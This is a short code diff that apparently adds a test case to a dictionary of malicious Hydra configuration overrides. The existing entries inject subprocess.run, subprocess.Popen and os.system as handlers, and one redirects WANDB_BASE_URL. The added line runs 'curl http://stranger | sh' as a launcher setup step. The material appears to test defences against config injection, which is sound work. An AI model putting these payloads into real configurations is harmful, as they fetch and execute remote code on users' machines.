@@ -366,6 +366,7 @@ CONFIGS = {
     "logging": "hydra: {job_logging: {handlers: {x: {'()': subprocess.run, args: true}}}}",
     "logging class": "hydra: {job_logging: {handlers: {x: {class: subprocess.Popen}}}}",
     "environment": "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://stranger'}}}",
+    "script": "hydra: {launcher: {setup: ['curl http://stranger | sh']}}",
     "another part": "hydra: {job_logging: {x: [{_target_: os.system}]}}",
 }
 
